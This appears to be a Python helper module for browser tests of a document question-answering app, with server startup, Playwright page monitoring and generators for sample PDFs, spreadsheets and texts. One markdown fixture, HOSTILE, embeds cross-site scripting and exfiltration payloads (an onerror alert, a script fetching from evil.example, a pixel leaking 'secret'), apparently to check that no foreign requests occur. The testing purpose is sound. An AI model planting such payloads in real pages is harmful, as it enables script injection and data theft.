"""The server and the browser of the browser tests, and the documents they read."""

from __future__ import annotations

import contextlib
import io
import os
import signal
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import openpyxl
from PIL import Image, ImageDraw, ImageFont
from playwright.sync_api import Locator, Page
from reportlab.lib.colors import black
from reportlab.lib.pagesizes import A4
from reportlab.lib.styles import ParagraphStyle
from reportlab.pdfgen import canvas
from reportlab.platypus import Paragraph, SimpleDocTemplate, Table

from engine.interfaces.client import server_token

START_SECONDS = 90
WAIT_MS = 45_000

HANDBOOK = """# 员工手册

## 第一章 考勤

员工每天上午九点上班，下午六点下班。迟到三次记警告一次。

## 第二章 年假

入职满一年的员工每年享有十五天带薪年假，未休完的年假可以结转到次年三月底。
"""
HOSTILE = """# Visitors' book

![pixel](https://evil.example/pixel.png?q=secret) <img src="https://evil.example/img.png" onerror="alert(1)">

<script>fetch('https://evil.example/script')</script> :material/delete: $x$ [click](https://evil.example/)

The visitors' book lists 41 guests of the lighthouse in 1931.
"""

TARIFFS = (
    "# Tariff\n\n## Fees\n\nThe harbour fee is 40 euro a day.\n\n## Berths\n\nThere are 12 berths.\n",
    "# Tariff\n\n## Fees\n\nThe harbour fee is 55 euro a day.\n\n## Berths\n\nThere are 12 berths.\n\n"
    "## Power\n\nShore power costs 3 euro a day.\n",
)


@dataclass
class App:
    """The server, with variables of its own. ``start`` waits until it answers; the library outlives a restart."""

    library: Path
    variables: dict[str, str] = field(default_factory=dict)
    port: int = 0
    process: subprocess.Popen[bytes] | None = None

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    @staticmethod
    def free_port() -> int:
        with socket.socket() as probe:
            probe.bind(("127.0.0.1", 0))
            return int(probe.getsockname()[1])

    def start(self) -> None:
        self.port = self.port or self.free_port()
        environ = {
            name: value for name, value in os.environ.items() if not name.startswith(("DROPQA", "OPENAI", "RAG_"))
        } | self.variables
        command = [
            sys.executable,
            "-m",
            "engine.interfaces.cli",
            "app",
            "--no-browser",
            "--port",
            str(self.port),
        ]
        log = self.library.with_suffix(".log").open("ab")
        self.process = subprocess.Popen(
            [*command, "--library", str(self.library)],
            env=environ,
            cwd=self.library.parent,
            stdout=log,
            stderr=log,
        )
        deadline = time.monotonic() + START_SECONDS
        with httpx.Client(timeout=5) as client:  # one for all tries: each would read the certificates anew
            while time.monotonic() < deadline and self.process.poll() is None:
                try:
                    if client.get(f"{self.url}/api/health").status_code == 200:
                        return
                except httpx.HTTPError:
                    time.sleep(0.1)
        raise AssertionError(f"the app did not start: {self.log()}")

    def stop(self) -> None:
        if self.process is None:
            return
        self.process.send_signal(signal.SIGINT)
        try:
            self.process.wait(20)
        except subprocess.TimeoutExpired:
            self.process.kill()
            self.process.wait()
        self.process = None

    def restart(self) -> None:
        self.stop()
        self.start()

    def log(self) -> str:
        return self.library.with_suffix(".log").read_text(errors="replace")[-4000:]

    def add(self, name: str, data: bytes) -> dict[str, Any]:
        headers = {"authorization": f"Bearer {server_token(self.library)}"}
        with httpx.Client(base_url=self.url, headers=headers, timeout=120) as client:
            taken = client.post("/api/documents/upload", files={"files": (name, data)}).json()["documents"][0]
            deadline = time.monotonic() + 120
            while (now := client.get(f"/api/documents/{taken['id']}").json())["status"] == "processing":
                assert time.monotonic() < deadline, now
                time.sleep(0.05)
        assert now["status"] == "ready", now
        return dict(now)

    def node(self, document: str, text: str) -> dict[str, Any]:
        tree = httpx.get(f"{self.url}/api/tree", params={"document": document}, timeout=60).json()
        return next(node for node in tree["nodes"] if text in node["title"] + node["text"])


@contextlib.contextmanager
def app_with(notes: Mapping[str, str], folder: Path) -> Iterator[App]:
    """An app of its own with some texts in it, which finds and sorts them by words alone."""
    running = App(folder / "library")
    running.library.mkdir()
    (running.library / "dropqa.toml").write_text("[embedding]\nenabled = false\n")
    running.start()
    try:
        for name, text in notes.items():
            running.add(name, text.encode())
        yield running
    finally:
        running.stop()


@dataclass
class Visitor:
    """A browser with its own cookies, and everything that went wrong in it."""

    app: App
    page: Page
    problems: list[str] = field(default_factory=list)

    def open(self, path: str) -> Page:
        self.page.goto(self.app.url + path)
        return self.page

    def ask(self, question: str) -> None:
        self.page.get_by_test_id("stChatInputTextArea").fill(question)
        self.page.get_by_test_id("stChatInputTextArea").press("Enter")

    def model_form(self) -> Locator:
        """Return the form of the answering model. While Streamlit draws the page anew, an address that another
        tab hides is now and then the first one, so the form is known by what its address suggests."""
        address = self.page.get_by_placeholder("https://api.openai.com/v1")
        return self.page.get_by_test_id("stForm").filter(has=address)

    def watch(self, page: Page) -> None:
        page.set_default_timeout(WAIT_MS)
        page.on("console", lambda message: self._console(message.type, message.text))
        page.on("pageerror", lambda error: self.problems.append(f"page error: {error}"))
        page.on("request", lambda request: self._request(request.url))
        page.on("response", lambda answer: self._response(answer.status, answer.url))

    def _console(self, kind: str, text: str) -> None:
        hung_up = "WebSocket" in text or "ERR_CONNECTION" in text
        if kind in ("error", "warning") and not hung_up:
            self.problems.append(f"console {kind}: {text}")

    def _request(self, url: str) -> None:
        if urlsplit(url).hostname not in ("127.0.0.1", None):
            self.problems.append(f"foreign request: {url}")

    def _response(self, status: int, url: str) -> None:
        if status >= 400:
            self.problems.append(f"{status}: {url}")


def write_pdf(path: Path, pages: list[list[tuple[int, float, str]]]) -> bytes:
    """Write a PDF of (size, y, text) lines a page and return its bytes."""
    sheet = canvas.Canvas(str(path), pagesize=A4)
    for lines in pages:
        for size, y, text in lines:
            sheet.setFont("Helvetica-Bold" if size > 12 else "Helvetica", size)
            sheet.drawString(72, y, text)
        sheet.showPage()
    sheet.save()
    return path.read_bytes()


def lighthouse() -> bytes:
    """Return a PDF of three pages; what is asked for stands at the foot of the last."""
    with tempfile.TemporaryDirectory() as folder:
        return write_pdf(
            Path(folder) / "lighthouse.pdf",
            [
                [
                    (22, 770, "The lighthouse of Vardo"),
                    (16, 720, "Building"),
                    (11, 690, "The tower was built of red granite between 1888 and 1896 by forty masons."),
                    (11, 674, "The tower stands 32 metres above the sea."),
                ],
                [
                    (16, 770, "The keepers"),
                    (
                        11,
                        740,
                        "Three families lived on the island and kept the lamp in turns of eight hours.",
                    ),
                ],
                [
                    (16, 770, "The lamp"),
                    (11, 740, "The lens was ground in Paris and weighs more than a ton."),
                    (
                        11,
                        90,
                        "The lamp burned 11 barrels of oil every winter until it was electrified in 1953.",
                    ),
                ],
            ],
        )


def dues() -> bytes:
    """Return a PDF with a ruled table of harbour dues."""
    rows = [["Berth", "2023", "2024"], ["North quay", "310", "325"], ["South quay", "190", "205"]]
    data = io.BytesIO()
    table = Table(rows, colWidths=[160, 90, 90], style=[("GRID", (0, 0), (-1, -1), 0.6, black)])
    SimpleDocTemplate(data).build([Paragraph("Harbour dues by berth.", ParagraphStyle("text")), table])
    return data.getvalue()


def keepers() -> bytes:
    """Return a workbook: a table of keepers with two header levels, and a sheet of tides."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Keepers"
    for row in (
        ["Family", "Watches", None, "Since"], [None, "Day", "Night", None], ["Strand", 120, 118, 1896],
        ["Holm", 131, 127, 1902], ["Berg", 98, 140, 1911],
    ):  # fmt: skip
        sheet.append(row)
    for merged in ("A1:A2", "B1:C1", "D1:D2"):
        sheet.merge_cells(merged)
    tides = book.create_sheet("Tides")
    tides.append(["Year", "Inches"])
    for year in range(1900, 1905):
        tides.append([year, year % 97])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def scan(
    first: str = "The fog horn was sounded every minute.", second: str = "It could be heard seven miles away."
) -> bytes:
    """Return the picture of a page with two lines of print."""
    page = Image.new("RGB", (900, 420), "white")
    draw = ImageDraw.Draw(page)
    font = ImageFont.load_default(34)
    draw.text((60, 70), first, "black", font)
    draw.text((60, 180), second, "black", font)
    buffer = io.BytesIO()
    page.save(buffer, "PNG")
    return buffer.getvalue()


def almanac() -> str:
    """Return a long text: many sections, so that it comes in parts."""
    months = ("January", "February", "March", "April", "May", "June", "July", "August", "September")
    parts = ["# Almanac"]
    for year in range(1900, 1930):
        entries = (f"In {month} {year} the tide gauge read {year % 97} inches at noon." for month in months)
        parts.append(f"## The year {year}")
        parts += [f"### {month} {year}\n\n{entry}" for month, entry in zip(months, entries, strict=True)]
    return "\n\n".join(parts)
